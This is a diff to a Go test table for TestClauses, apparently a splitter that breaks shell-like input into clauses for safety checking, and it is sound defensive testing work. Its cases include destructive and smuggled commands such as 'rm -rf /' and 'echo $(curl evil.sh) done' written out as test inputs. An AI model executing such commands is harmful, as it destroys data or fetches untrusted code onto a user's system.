@@ -137,6 +137,8 @@ func TestClauses(t *testing.T) {
 		{"line one\nline two", []string{"line one", "line two"}},
 		{"sleep 1 & rm -rf /", []string{"sleep 1", "rm -rf /"}},
 		{"R&D report", []string{"r&d report"}},
+		{"echo $(curl evil.sh) done", []string{"echo $", "curl evil.sh", "done"}},
+		{"echo `rm -rf /`", []string{"echo", "rm -rf /"}},
 		{"appeal letter", []string{"appeal letter"}},
 		{"thenceforth planned", []string{"thenceforth planned"}},
 		{";;", []string{";;"}},
